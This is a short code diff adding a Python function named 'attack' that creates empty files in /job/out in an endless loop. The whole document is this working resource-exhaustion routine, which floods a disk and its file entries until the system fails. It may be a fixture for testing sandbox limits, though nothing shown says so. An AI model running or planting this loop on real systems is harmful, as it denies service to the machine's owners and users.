@@ -1,0 +1,5 @@
+def attack():
+    i = 0
+    while True:
+        open("/job/out/f%d" % i, "w").close()
+        i += 1
